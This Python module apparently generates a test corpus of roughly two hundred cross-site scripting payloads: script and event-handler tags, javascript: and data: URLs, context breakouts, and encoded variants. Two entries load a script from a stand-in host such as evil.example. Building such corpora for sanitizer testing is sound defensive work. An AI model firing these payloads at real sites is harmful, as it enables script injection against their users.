"""Two hundred ways in which a text may try to be a script: by tags, by attributes, by addresses, by leaving what it stands in,
by encodings that somebody undoes, and by what is put after it."""

_TAGS = [
    "<script>{0}</script>", "<SCRIPT>{0}</SCRIPT>", "<script/x>{0}</script>", "<script\n>{0}</script\n>", "<scr<script>ipt>{0}</script>",
    "<img src=x onerror={0}>", "<img src=x onerror='{0}'>", '<img src="x" onerror="{0}">', "<img/src=x/onerror={0}>",
    "<svg onload={0}>", "<svg/onload={0}>", "<svg><script>{0}</script></svg>", "<svg><animate onbegin={0} attributeName=x dur=1s>",
    "<body onload={0}>", "<iframe srcdoc='<script>{0}</script>'>", "<iframe src=javascript:{0}>", "<object data=javascript:{0}>",
    "<embed src=javascript:{0}>", "<details open ontoggle={0}>", "<video><source onerror={0}>", "<audio src=x onerror={0}>",
    "<input autofocus onfocus={0}>", "<select autofocus onfocus={0}>", "<textarea autofocus onfocus={0}>", "<marquee onstart={0}>",
    "<math><mtext><script>{0}</script></mtext></math>", "<a href=javascript:{0} autofocus>x</a>", "<form action=javascript:{0}><button>x",
    "<meta http-equiv=refresh content='0;url=javascript:{0}'>", "<link rel=stylesheet href=javascript:{0}>", "<base href=javascript:{0}//>",
    "<style>@import 'javascript:{0}'</style>", "<div style='background:url(javascript:{0})'>", "<template><script>{0}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={0}>'>", "<!--<img src=x onerror={0}>-->", "<![CDATA[<script>{0}</script>]]>",
    "<x contenteditable onblur={0}>", "<keygen autofocus onfocus={0}>", "<isindex action=javascript:{0} type=image>",
]  # fmt: skip
_OUT = [
    '"><',
    "'><",
    "</textarea><",
    "</title><",
    "</script><",
    "</style><",
    "</pre><",
    "-->",
    "]]>",
    "</time><",
]
_ADDRESSES = [
    "javascript:{0}", "JaVaScRiPt:{0}", " javascript:{0}", "java\tscript:{0}", "java\nscript:{0}", "javascript&colon;{0}",
    "data:text/html,<script>{0}</script>", "vbscript:{0}", "//evil.example/x.js", "\\\\evil.example\\x.js",
]  # fmt: skip
_INSIDE = [
    '" onmouseover="{0}', "' onmouseover='{0}", "` onmouseover=`{0}", '" autofocus onfocus="{0}', "' autofocus onfocus='{0}",
    '";{0};//', "';{0};//", "`;{0};//", "${{{0}}}", "{{{{{0}}}}}", "{{%{0}%}}", "[[{0}]]", "\\\";{0};//", "\\';{0};//", "\u2028{0}",
]  # fmt: skip
_ENCODED = [
    "&lt;script&gt;{0}&lt;/script&gt;", "&#60;script&#62;{0}&#60;/script&#62;", "&#x3c;script&#x3e;{0}&#x3c;/script&#x3e;",
    "%3Cscript%3E{0}%3C/script%3E", "\\u003cscript\\u003e{0}\\u003c/script\\u003e", "\\x3cscript\\x3e{0}\\x3c/script\\x3e",
    "+ADw-script+AD4-{0}+ADw-/script+AD4-", "\uff1cscript\uff1e{0}\uff1c/script\uff1e", "<\u200bscript>{0}</script>",
    "\u202e<script>{0}</script>", "\x1b[31m<script>{0}</script>\x1b[0m", "\r\n\r\n<script>{0}</script>",
]  # fmt: skip

CALL = "alert(1)"
CORPUS = [
    each.format(CALL)
    for each in [
        *_TAGS, *_ADDRESSES, *_INSIDE, *_ENCODED, *[out + tag.removeprefix("<") for out in _OUT for tag in _TAGS[:13]],
    ]
]  # fmt: skip


def rows(word: str, most: int, corpus: list[str] = CORPUS) -> list[str]:
    """The corpus in texts of so many characters at most, each of which begins with the word. One that is longer is cut."""
    made = [word]
    for each in corpus:
        if made[-1] != word and len(made[-1]) + len(each) >= most:
            made.append(word)
        made[-1] = f"{made[-1]} {each}"[:most]
    return made
